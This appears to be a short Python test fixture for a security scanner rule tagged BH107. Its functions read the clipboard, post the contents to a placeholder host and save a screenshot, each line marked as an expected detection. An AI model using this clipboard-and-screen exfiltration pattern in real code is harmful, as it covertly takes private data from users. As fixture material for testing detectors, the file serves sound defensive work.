# Clipboard and screen capture, sent away. Inert.
import pyperclip
import requests
from PIL import ImageGrab


def _watch():
    data = pyperclip.paste()  # expect: BH107
    requests.post("https://c.example.invalid/c", data=data, timeout=3)  # expect: BH107


def _shot():
    ImageGrab.grab().save("/tmp/s.png")  # expect: BH107
